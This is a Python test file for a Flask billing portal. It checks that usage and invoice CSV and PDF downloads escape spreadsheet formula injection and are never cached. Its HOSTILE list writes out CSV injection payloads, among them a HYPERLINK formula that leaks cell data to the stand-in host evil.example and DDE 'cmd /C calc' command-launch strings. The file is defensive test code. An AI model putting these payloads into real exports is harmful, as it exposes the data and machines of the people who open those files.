"""CSV and PDF downloads: formula injection neutralised, never cached, read as a spreadsheet would."""

from __future__ import annotations

import csv
import io
import re

from flask import Flask
from flask.testing import FlaskClient

from portal.csvsafe import safe_cell
from portal.extensions import db
from portal.invoices.service import create_invoice
from portal.models import Organization
from tests.factories import make_org, make_tariff
from tests.invoices.helpers import SEP
from tests.invoices.test_lifecycle import NOW
from tests.invoices.test_lifecycle import SEP as SEP_PERIOD
from tests.usages.helpers import use, utc

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def spreadsheet_reads_as_formula(cell: str) -> bool:
    """What Excel, LibreOffice and Google Sheets do with an imported cell: leading blanks are
    skipped and a cell starting with = + - @ that is not a plain number is evaluated."""
    start = cell.lstrip(" \t\r\n")
    return start[:1] in {"=", "+", "-", "@"} and not _PLAIN_NUMBER.fullmatch(start)


def _hostile_org(app: Flask) -> int:
    with app.app_context():
        org = make_org(HOSTILE[0][:100])
        tariff = make_tariff("=cmd|' /C calc'!A0", price=900)
        for n, title in enumerate(HOSTILE):
            use(org, tariff, utc(2026, 9, 1), utc(2026, 9, 11), name=f"cam-{n}", title=title)
        db.session.commit()
        return org.id


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    formulas = [cell for cell in cells if spreadsheet_reads_as_formula(cell)]
    assert formulas == []
    for title in HOSTILE[1:]:
        assert "'" + title in cells  # kept, readable, just not evaluated


def test_usages_csv_is_neutralised_and_private(app: Flask, admin_client: FlaskClient) -> None:
    org_id = _hostile_org(app)
    response = admin_client.get(f"/organizations/{org_id}/usages.csv", query_string=SEP)
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    _assert_neutral(response.get_data(as_text=True))


def test_invoice_csv_and_pdf_are_neutralised_and_private(app: Flask, admin_client: FlaskClient) -> None:
    org_id = _hostile_org(app)
    with app.app_context():
        invoice = create_invoice(db.session.get(Organization, org_id), SEP_PERIOD, NOW, issue=True)
        db.session.commit()
        invoice_id = invoice.id
    response = admin_client.get(f"/invoices/{invoice_id}/csv")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    _assert_neutral(response.get_data(as_text=True))
    pdf = admin_client.get(f"/invoices/{invoice_id}/pdf")
    assert pdf.status_code == 200 and pdf.headers["Cache-Control"] == "private, no-store"


def test_safe_cell_keeps_numbers_and_plain_text() -> None:
    assert safe_cell("-12.50") == "-12.50" and safe_cell("+3") == "+3"
    assert safe_cell(-5) == -5 and safe_cell("Main camera") == "Main camera"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-1+1") == "'-1+1" and safe_cell("\n=1") == "'\n=1"
    assert spreadsheet_reads_as_formula("=1") and spreadsheet_reads_as_formula(" @x")
    assert not spreadsheet_reads_as_formula("-3.5") and not spreadsheet_reads_as_formula("'=1")
